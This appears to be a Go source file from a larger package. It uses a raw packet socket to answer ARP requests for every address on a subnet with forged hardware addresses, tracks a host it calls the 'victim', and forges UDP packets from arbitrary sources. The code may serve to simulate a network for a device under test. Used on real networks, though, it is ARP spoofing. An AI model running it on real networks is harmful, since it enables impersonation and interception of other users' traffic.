package main

import (
	"encoding/binary"
	"fmt"
	"net"
	"net/netip"
	"sync"
	"sync/atomic"
	"syscall"
)

const (
	etherARP  = 0x0806
	etherIPv4 = 0x0800
	etherIPv6 = 0x86dd
	protoUDP  = 17
	protoICMP = 58 // of IPv6
)

// link reads and writes whole frames, so that it can speak for any address, made up or not.
type link struct {
	fd     int
	to     *syscall.SockaddrLinklayer
	own    net.HardwareAddr
	home   netip.Prefix
	victim atomic.Pointer[net.HardwareAddr] // who asks
	once   sync.Map                         // floods that have begun
}

func networkOrder(v uint16) uint16 { return v<<8 | v>>8 }

func openLink(name string, home netip.Prefix) (*link, error) {
	on, err := net.InterfaceByName(name)
	if err != nil {
		return nil, fmt.Errorf("finding the connection: %w", err)
	}
	all := networkOrder(syscall.ETH_P_ALL)
	fd, err := syscall.Socket(syscall.AF_PACKET, syscall.SOCK_RAW|syscall.SOCK_CLOEXEC, int(all))
	if err != nil {
		return nil, fmt.Errorf("opening the connection: %w", err)
	}
	_ = syscall.SetsockoptInt(fd, syscall.SOL_SOCKET, 33 /* SO_RCVBUFFORCE */, 16<<20)
	to := &syscall.SockaddrLinklayer{Protocol: all, Ifindex: on.Index}
	if err := syscall.Bind(fd, to); err != nil {
		return nil, fmt.Errorf("binding to the connection: %w", err)
	}
	return &link{fd: fd, to: to, own: on.HardwareAddr, home: home.Masked()}, nil
}

// macOf is this host's own hardware address for the first 256 addresses of the network, where its web
// servers are, and a made-up one with a maker's prefix for every other.
func (l *link) macOf(a netip.Addr) net.HardwareAddr {
	if a.Is4() {
		b := a.As4()
		if b[2] == 0 {
			return l.own
		}
		return net.HardwareAddr{0x00, 0x17, 0x88, b[1], b[2], b[3]}
	}
	b := a.As16()
	return net.HardwareAddr{0x00, 0x17, 0x88, b[13], b[14], b[15]}
}

// address is the n-th address of the network.
func (l *link) address(n int) netip.Addr {
	b := l.home.Addr().As4()
	binary.BigEndian.PutUint32(b[:], binary.BigEndian.Uint32(b[:])+uint32(n))
	return netip.AddrFrom4(b)
}

func (l *link) loop() error {
	buf := make([]byte, 1<<16)
	for {
		n, from, err := syscall.Recvfrom(l.fd, buf, 0)
		if err != nil {
			if err == syscall.EINTR || err == syscall.ENETDOWN {
				continue
			}
			return fmt.Errorf("receiving: %w", err)
		}
		if ll, ok := from.(*syscall.SockaddrLinklayer); ok && ll.Pkttype == syscall.PACKET_OUTGOING || n < 14 {
			continue
		}
		mac := net.HardwareAddr(append([]byte(nil), buf[6:12]...))
		l.victim.Store(&mac)
		l.frame(buf[:n])
	}
}

func (l *link) frame(f []byte) {
	switch body := f[14:]; binary.BigEndian.Uint16(f[12:]) {
	case etherARP:
		l.arp(body)
	case etherIPv4:
		l.ipv4(body)
	case etherIPv6:
		l.ipv6(body)
	}
}

// send puts one frame on the wire. A full queue loses it, as on any network.
func (l *link) send(src, dst net.HardwareAddr, kind uint16, body []byte) {
	f := append(append([]byte(nil), dst...), src...)
	f = append(binary.BigEndian.AppendUint16(f, kind), body...)
	_ = syscall.Sendto(l.fd, f, 0, l.to)
}

func (l *link) towards(dst netip.Addr) net.HardwareAddr {
	if dst.Is4() && dst.IsMulticast() {
		b := dst.As4()
		return net.HardwareAddr{0x01, 0x00, 0x5e, b[1] & 0x7f, b[2], b[3]}
	}
	if dst.IsMulticast() {
		b := dst.As16()
		return net.HardwareAddr{0x33, 0x33, b[12], b[13], b[14], b[15]}
	}
	if v := l.victim.Load(); v != nil {
		return *v
	}
	return net.HardwareAddr{0xff, 0xff, 0xff, 0xff, 0xff, 0xff}
}

// arp answers for every address of the network but the victim's own.
func (l *link) arp(b []byte) {
	if len(b) < 28 || b[7] != 1 {
		return
	}
	asker, wanted := netip.AddrFrom4([4]byte(b[14:18])), netip.AddrFrom4([4]byte(b[24:28]))
	if !l.home.Contains(wanted) || wanted == asker || asker.IsUnspecified() {
		return
	}
	mac := l.macOf(wanted)
	p := append([]byte{0, 1, 8, 0, 6, 4, 0, 2}, mac...)
	p = append(p, b[24:28]...)
	p = append(p, b[8:18]...)
	l.send(mac, net.HardwareAddr(b[8:14]), etherARP, p)
}

// packet is one UDP packet of the victim.
type packet struct {
	from, to         netip.Addr
	fromPort, toPort uint16
	payload          []byte
}

func (l *link) ipv4(b []byte) {
	if len(b) < 28 || b[0] != 0x45 || b[9] != protoUDP {
		return
	}
	l.hear(packet{
		netip.AddrFrom4([4]byte(b[12:16])), netip.AddrFrom4([4]byte(b[16:20])),
		binary.BigEndian.Uint16(b[20:]), binary.BigEndian.Uint16(b[22:]), b[28:],
	})
}

// udp sends one packet from anybody to anybody.
func (l *link) udp(src netip.Addr, srcPort uint16, dst netip.Addr, dstPort uint16, payload []byte) {
	u := binary.BigEndian.AppendUint16(nil, srcPort)
	u = binary.BigEndian.AppendUint16(u, dstPort)
	u = binary.BigEndian.AppendUint16(u, uint16(8+len(payload)))
	u = append(append(u, 0, 0), payload...)
	if src.Is4() {
		l.send(l.macOf(src), l.towards(dst), etherIPv4, append(header4(src, dst, len(u)), u...))
		return
	}
	binary.BigEndian.PutUint16(u[6:], checksum(pseudo(src, dst, protoUDP, u), u))
	l.send(l.macOf(src), l.towards(dst), etherIPv6, append(header6(src, dst, protoUDP, len(u)), u...))
}

func header4(src, dst netip.Addr, length int) []byte {
	h := []byte{0x45, 0, 0, 0, 0, 0, 0, 0, 255, protoUDP, 0, 0}
	binary.BigEndian.PutUint16(h[2:], uint16(20+length))
	h = append(append(h, src.AsSlice()...), dst.AsSlice()...)
	binary.BigEndian.PutUint16(h[10:], checksum(h))
	return h
}

func header6(src, dst netip.Addr, proto byte, length int) []byte {
	h := []byte{0x60, 0, 0, 0, 0, 0, proto, 255}
	binary.BigEndian.PutUint16(h[4:], uint16(length))
	return append(append(h, src.AsSlice()...), dst.AsSlice()...)
}

func pseudo(src, dst netip.Addr, proto byte, body []byte) []byte {
	p := append(src.AsSlice(), dst.AsSlice()...)
	return append(binary.BigEndian.AppendUint32(p, uint32(len(body))), 0, 0, 0, proto)
}

func checksum(parts ...[]byte) uint16 {
	sum := uint32(0)
	for _, p := range parts {
		for i := 0; i < len(p); i += 2 {
			sum += uint32(p[i]) << 8
			if i+1 < len(p) {
				sum += uint32(p[i+1])
			}
		}
	}
	for sum > 0xffff {
		sum = sum>>16 + sum&0xffff
	}
	if sum == 0xffff {
		return 0xffff
	}
	return ^uint16(sum)
}
